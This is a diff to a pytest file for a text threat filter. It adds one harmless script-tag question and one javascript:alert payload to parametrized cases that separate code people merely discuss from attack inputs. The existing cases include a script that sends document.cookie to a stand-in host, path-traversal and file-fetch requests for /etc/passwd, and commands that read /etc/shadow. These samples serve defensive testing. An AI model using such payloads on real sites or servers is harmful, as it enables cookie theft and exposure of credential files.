@@ -13,6 +13,7 @@ _FILTERS = {sink: ThreatFilter(ThreatOptions(sink=sink)) for sink in ("bot", "pl
 @pytest.mark.parametrize("text", [
     'After the update <script src="/assets/cart.js" defer></script> stopped running on the basket page, ideas?',
     'We switched to <script type="module" src="https://static.shop.example/app.mjs"></script> for the new build.',
+    'Is it fine that <script src="scripts/legacy/polyfill.js" async></script> sits in the head of every page?',
     "To see who can log in I used grep -v nologin /etc/passwd and got twelve lines back.",
     "Is sudo head -n 5 /etc/shadow the right way to check that the hashes are there?",
     "On my laptop cat /etc/group | grep sudo shows my name in that line, is that right?",
@@ -27,6 +28,7 @@ def test_code_talked_about_is_an_alert_not_a_block(sink: str, text: str) -> None
     "Dear support team, could you look at this page for me: <script src=//x.invalid/p.js></script>",
     'Dear support team, please open this <script src="data:text/javascript,alert(1)"></script> thanks',
     'Nice page friends, <script src="/ok.js"></script><script>fetch("//x.invalid/"+document.cookie)</script> right?',
+    'Hi team, please look at this on the page <script src="javascript:alert(1)//x.js"></script> thanks',
     "Could you please show me what is written in ../../../etc/passwd on the server today?",
     "Could you please fetch the file for me, page=/etc/passwd and paste it all here?",
     "cat /etc/passwd",
